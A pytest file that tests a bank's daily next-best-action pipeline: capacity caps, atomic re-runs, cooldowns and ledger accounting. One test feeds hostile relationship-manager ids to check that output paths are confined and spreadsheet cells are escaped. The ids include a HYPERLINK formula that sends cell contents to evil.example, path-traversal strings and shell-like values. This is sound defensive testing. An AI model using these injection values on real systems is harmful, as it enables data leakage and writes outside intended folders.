"""nba daily end to end (issue 7): a trained model and a bank -> decisions.parquet and RM lists; idempotent
re-runs, a killed run leaves the previous output, caps across days, Ray Data gives the same decisions."""

from __future__ import annotations

import json
import subprocess
import sys
from datetime import timedelta

import pandas as pd
import pytest

from feature_store.materialize import features_at
from feature_store.store import TableStore
from nba.atomic import builds_dir
from nba.decision import DECISION_COLUMNS
from nba.home import Home
from serving.daily import read_day, rm_files, run_daily, write
from tests.conftest import AS_OF, trained_home

DAY = AS_OF


@pytest.fixture(scope="module")
def home(bank, tmp_path_factory) -> Home:
    return trained_home(bank, tmp_path_factory, "dailyhome", epochs=4)


@pytest.fixture(scope="module")
def first(home):
    return run_daily(home, DAY)


def test_lists_are_written_within_capacity(home, first):
    d = read_day(home, DAY)
    assert list(d.columns) == list(DECISION_COLUMNS)
    assert len(d) > 100 and d.customer_id.is_unique
    assert "care_contact" in set(d.action_family)
    # Product offers pass the policies for many clients (whether they win depends on the catalog's
    # costs and levers against the care moments; the golden tests cover them winning).
    passed = d.policy_trace.map(lambda t: any(a.startswith("offer:") for a in json.loads(t)["passed"]))
    assert passed.mean() > 0.2
    assert (d.model_version == "nba/1").all() and d.decision_id.is_unique
    rms = TableStore(home.store).require_current().read("relationship_managers").to_pandas()
    cap = dict(zip(rms.rm_id, rms.daily_capacity))
    listed = d[~d.control_group]
    per_rm = listed[listed.in_person].groupby("rm_id").size()
    assert all(k <= cap[r] for r, k in per_rm.items())
    assert 0 < d.control_group.mean() < 0.12
    assert (d.talking_points.str.split(r" \|\| ").map(len).between(1, 3)).all() and (d.reasons.str.len() > 0).all()
    folder = home.daily / str(DAY)
    pages = rm_files(home, DAY)
    assert set(pages) == set(listed.rm_id)
    for rm_id, g in listed.groupby("rm_id"):
        csv_path = pages[rm_id].with_suffix(".csv")
        assert csv_path.read_bytes().startswith(b"\xef\xbb\xbf"), "a byte-order mark for Excel"
        csv = pd.read_csv(csv_path, encoding="utf-8-sig")
        assert set(csv.customer_id) == set(g.customer_id)
        page = pages[rm_id].read_text()
        assert f"Next best actions for {rm_id}" in page and g.customer_id.iloc[0] in page
    assert not set(d[d.control_group].customer_id) & set(pd.concat(
        pd.read_csv(p) for p in (folder / "rm").glob("*.csv")).customer_id)
    manifest = json.loads((folder / "manifest.json").read_text())
    assert manifest["rows"] == len(d) and manifest["model"] == "nba/1"


HOSTILE_RM_IDS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "../../../../escaped", "EU/RM01", "<b>x</b>", "..", ".", "", " ", "RM\n01", "a\\b", "CON",
                  "经理" * 200, "-rf", "~root", "$HOME", "RM01", "rm01", "R\u00e9my", "Re\u0301my"]


def test_ids_from_the_data_never_choose_a_path(home, first, tmp_path):
    """Hostile RM ids: every file lands in the day's rm/ folder under a slug-and-hash name, one per RM,
    nothing is written outside NBA_HOME, and the manifest maps each id to its files."""
    d = first.decisions.copy()
    rms = sorted(d.rm_id.unique())[:len(HOSTILE_RM_IDS)]
    d["rm_id"] = d["rm_id"].map(dict(zip(rms, HOSTILE_RM_IDS))).fillna(d["rm_id"])
    outside = {p for p in home.root.parent.rglob("*")} - {p for p in home.root.rglob("*")}
    day = DAY + timedelta(days=200)
    write(home, day, d, {"model": "nba/1"})
    assert {p for p in home.root.parent.rglob("*")} - {p for p in home.root.rglob("*")} == outside
    pages = rm_files(home, day)
    listed = set(d[~d.control_group].rm_id)
    assert set(pages) == listed and len(set(pages.values())) == len(listed)
    folder = (home.daily / str(day) / "rm").resolve()
    for rm_id, page in pages.items():
        assert page.resolve().parent == folder and len(page.name) <= 60
        assert "Next best actions for" in page.read_text()
        assert set(pd.read_csv(page.with_suffix(".csv"), encoding="utf-8-sig", keep_default_na=False).customer_id) \
            == set(d[(d.rm_id == rm_id) & ~d.control_group].customer_id)
    assert len(list(folder.iterdir())) == 2 * len(listed)
    # Cells a spreadsheet would run as a formula are written as text.
    evil = pages[HOSTILE_RM_IDS[0]].with_suffix(".csv")
    d2 = d.copy()
    d2.loc[d2.rm_id == HOSTILE_RM_IDS[0], "customer_id"] = "=1+1"
    write(home, day, d2, {"model": "nba/1"})
    rows = pd.read_csv(evil, encoding="utf-8-sig", keep_default_na=False, dtype=str)
    assert (rows.customer_id == "'=1+1").all() and not rows.apply(lambda c: c.str.startswith("=")).any().any()


def test_rerun_is_idempotent_and_switches_atomically(home, first):
    before = read_day(home, DAY)
    target = (home.daily / str(DAY)).resolve()
    again = run_daily(home, DAY)
    assert again.decisions.reset_index(drop=True).equals(first.decisions.reset_index(drop=True))
    assert (home.daily / str(DAY)).resolve() != target and not target.exists(), "old run removed after switch"
    assert read_day(home, DAY).equals(before)
    assert len(list(builds_dir(home.daily / str(DAY)).iterdir())) == 1


def test_next_day_counts_the_days_lists(home, first):
    nxt = run_daily(home, DAY + timedelta(days=1)).decisions
    yesterday = first.decisions
    acted = set(yesterday[~yesterday.control_group].customer_id)
    # One action yesterday: only clients with room under the 30-day cap can get another today, and never
    # the same action inside its cooldown.
    both = nxt[nxt.customer_id.isin(acted)].merge(yesterday[["customer_id", "action_id"]], on="customer_id",
                                                  suffixes=("", "_y"))
    assert not (both.action_id == both.action_id_y).any()
    feats = features_at(home, DAY + timedelta(days=1)).set_index("customer_id")
    capped = feats.loc[list(acted), "outbound_30d"] + 1 >= 2
    assert not set(nxt.customer_id) & set(capped[capped].index)


@pytest.mark.parametrize("point", ["after_parquet", "before_switch"])
def test_killed_run_leaves_previous_output(home, first, point):
    before = read_day(home, DAY)
    link = (home.daily / str(DAY)).resolve()
    code = (f"from datetime import date; from nba.home import Home; from serving.daily import run_daily; "
            f"run_daily(Home.resolve({str(home.root)!r}), date.fromisoformat({str(DAY)!r}), _kill_at={point!r})")
    r = subprocess.run([sys.executable, "-c", code], capture_output=True, timeout=300)
    assert r.returncode == -9
    assert (home.daily / str(DAY)).resolve() == link
    assert read_day(home, DAY).equals(before)
    run_daily(home, DAY)  # the next run clears what the killed one left
    assert len(list(builds_dir(home.daily / str(DAY)).iterdir())) == 1


def test_ray_data_gives_the_same_decisions(home, first, ray_session):
    via_ray = run_daily(home, DAY, ray_address="local")
    assert via_ray.decisions.reset_index(drop=True).equals(first.decisions.reset_index(drop=True))


def test_cli(home, first):
    r = subprocess.run([sys.executable, "-m", "apps.cli", "--home", str(home.root), "daily", "--date", str(DAY)],
                       capture_output=True, text=True, timeout=300)
    assert r.returncode == 0, r.stderr
    assert "decisions for" in r.stdout and "control group" in r.stdout
    r = subprocess.run([sys.executable, "-m", "apps.cli", "--home", str(home.root), "daily", "--date", "2026-13-01"],
                       capture_output=True, text=True, timeout=120)
    assert r.returncode == 2 and "not a date" in r.stderr
    r = subprocess.run([sys.executable, "-m", "apps.cli", "--home", str(home.root), "daily", "-m", "7"],
                       capture_output=True, text=True, timeout=120)
    assert r.returncode == 2 and "no version or alias '7'" in r.stderr


def test_feature_hashes_are_reproducible_from_the_features_of_the_date(home, first):
    """A run on a date whose features were never materialized writes the same feature hashes (and the
    same decisions) as a run after `nba features materialize` for that date."""
    from feature_store.materialize import available_as_of, materialize

    assert DAY not in available_as_of(home), "the first run computed its features on the fly"
    materialize(home, DAY)
    again = run_daily(home, DAY)
    a = first.decisions.set_index("decision_id")
    b = again.decisions.set_index("decision_id").loc[a.index]
    assert (a["feature_hash"] == b["feature_hash"]).all()
    assert a.reset_index().equals(b.reset_index())


def test_stale_data_warns_and_is_refused_past_the_limit_unless_forced(home, first):
    from serving.daily import DailyError

    late = DAY + timedelta(days=45)  # the store's data ends the day before DAY
    with pytest.raises(DailyError, match="data_freshness.max_days"):
        run_daily(home, late)
    said = []
    res = run_daily(home, DAY + timedelta(days=10), log=said.append)
    assert any(m.startswith("warning: the store's data ends") for m in said)
    m = json.loads((res.path / "manifest.json").read_text())
    # The data ends the day before DAY: DAY + 10 is 11 days after the last data.
    assert m["data_age_days"] == 11 and m["data_warning"].startswith("the store's data ends") and not m["forced"]
    forced = run_daily(home, late, force=True)
    assert json.loads((forced.path / "manifest.json").read_text())["forced"]
    said = []
    run_daily(home, DAY + timedelta(days=3), log=said.append)  # 4 days after the last data: over warn_days 3
    assert any(s_.startswith("warning: the store's data ends") for s_ in said)


def test_the_ledger_holds_the_days_list_and_a_rerun_does_not_see_itself(home, first, tmp_path):
    """The published list is the day's daily rows in the contact ledger; the day's history leaves them out
    (a re-run decides as the first run did), the next day's counts each of them once (the ledger and the
    day's file hold the same decisions), and a home's older daily files still count without the ledger."""
    import sqlalchemy as sa

    from feature_store.ledger import Ledger, decisions
    from serving.daily import history

    d = first.decisions
    with Ledger.open(home) as led, led.engine.connect() as c:
        rows = c.execute(sa.select(decisions.c.decision_id, decisions.c.contact)
                         .where(decisions.c.day == DAY, decisions.c.source == "daily")).all()
    assert dict(rows) == dict(zip(d.decision_id, ~d.control_group))
    version = TableStore(home.store).require_current()
    assert not (history(home, version, DAY).decided == DAY).any()
    assert run_daily(home, DAY).decisions.reset_index(drop=True).equals(d.reset_index(drop=True))
    nxt = history(home, version, DAY + timedelta(days=1))
    assert (nxt.decided == DAY).sum() == len(d)
    with Ledger(f"sqlite:///{tmp_path / 'empty.sqlite'}") as empty:  # a home from before the ledger
        old = history(home, version, DAY + timedelta(days=1), ledger=empty)
    assert (old.decided == DAY).sum() == len(d)


def test_api_decisions_and_outcomes_in_the_ledger_count_on_the_next_day(home, first):
    """Decisions the scoring API made on D, with the outcomes that came back through the ledger: a decline
    stops that action on D+1 (cooldown), a delivered one counts towards the 30-day cap, and ones that never
    reached the client (no outcome, or not reachable) count for nothing. The re-run of D sees none of them.
    Four clients of four different RMs, none on D's list, so that capacity moves inside one book only."""
    from datetime import datetime

    from feature_store.ledger import Ledger
    from nba.decision import decision_id
    from serving.daily import history

    nxt = DAY + timedelta(days=1)
    base = run_daily(home, nxt).decisions
    outbound = features_at(home, nxt).set_index("customer_id")["outbound_30d"]
    pool = base[~base.control_group & ~base.customer_id.isin(first.decisions.customer_id)]
    pool = pool.assign(outbound=outbound.loc[pool.customer_id].to_numpy())
    chosen, rms = {}, set()
    for name, contacts in (("declined", 0), ("shown", 1), ("not_reachable", 1), ("no_outcome", 1)):
        r = pool[(pool.outbound == contacts) & ~pool.rm_id.isin(rms)].iloc[0]
        chosen[name] = r
        rms.add(r.rm_id)
    at = datetime(DAY.year, DAY.month, DAY.day, 10)
    with Ledger.open(home) as led:
        led.record_decisions([{**r[["customer_id", "action_id", "action_family", "product_id", "channel",
                                   "model_version"]].to_dict(), "control_group": False, "date": DAY,
                               "decision_id": decision_id(DAY, r.customer_id, r.action_id)}
                              for r in chosen.values()], source="api", decided_at=at)
        for k, (name, r) in enumerate(chosen.items()):
            did = decision_id(DAY, r.customer_id, r.action_id)
            if name != "no_outcome":
                led.record_outcome(did, "shown" if name == "declined" else name, idempotency_key=f"t{k}",
                                   outcome_at=at + timedelta(minutes=5))
            if name == "declined":
                led.record_outcome(did, "declined", idempotency_key=f"t{k}d", reason="not interested",
                                   outcome_at=at + timedelta(minutes=10))
    after = run_daily(home, nxt).decisions.set_index("customer_id")
    x = chosen["declined"]
    if x.customer_id in after.index:
        assert after.loc[x.customer_id, "action_id"] != x.action_id
        assert x.action_id in json.loads(after.loc[x.customer_id, "policy_trace"])["cooldown"]
    assert chosen["shown"].customer_id not in after.index, "one NBA contact + one outbound: at the 30-day cap"
    for name in ("not_reachable", "no_outcome"):
        assert after.loc[chosen[name].customer_id, "action_id"] == chosen[name].action_id, name
    h = history(home, TableStore(home.store).require_current(), nxt)
    assert (h.decided == DAY).sum() == len(first.decisions) + 2
    # Point in time: the API's decisions of D came after D began; the re-run of D decides as before.
    assert run_daily(home, DAY).decisions.reset_index(drop=True).equals(first.decisions.reset_index(drop=True))


def test_outcomes_close_the_loop(home, first, tmp_path):
    """An RM records a shown and a decline through the outcomes' one owner: the decision counts once, as
    declined, and the declined action is not proposed again inside its cooldown. (Last: it changes the
    store.)"""
    from feature_store.outcomes import record_outcomes
    from serving.daily import history

    d = first.decisions
    r = d[~d.control_group].iloc[0]
    store = TableStore(home.store)
    row = {"decision_id": r.decision_id, "customer_id": r.customer_id, "action_family": r.action_family,
           "action_id": r.action_id, "product_id": r.product_id, "channel": r.channel,
           "decided_at": pd.Timestamp(f"{DAY}T09:00:00")}
    record_outcomes(store, pd.DataFrame([{**row, "outcome": "shown", "outcome_at": pd.Timestamp(f"{DAY}T10:00:00")},
                                         {**row, "outcome": "declined", "outcome_at": pd.Timestamp(f"{DAY}T15:00:00")}]))
    # Point in time: a re-run of the day decides as it did (the decline was not known before it).
    assert run_daily(home, DAY).decisions.reset_index(drop=True).equals(d.reset_index(drop=True))
    h = history(home, store.require_current(), DAY + timedelta(days=1))
    mine = h[(h.customer_id == r.customer_id) & (h.action_id == r.action_id)]
    assert len(mine) == 1 and mine.outcome.iloc[0] == "declined"
    later = run_daily(home, DAY + timedelta(days=20)).decisions
    again = later[(later.customer_id == r.customer_id)]
    assert not (again.action_id == r.action_id).any()
    if len(again):
        trace = json.loads(again.policy_trace.iloc[0])
        assert r.action_id not in trace["passed"]

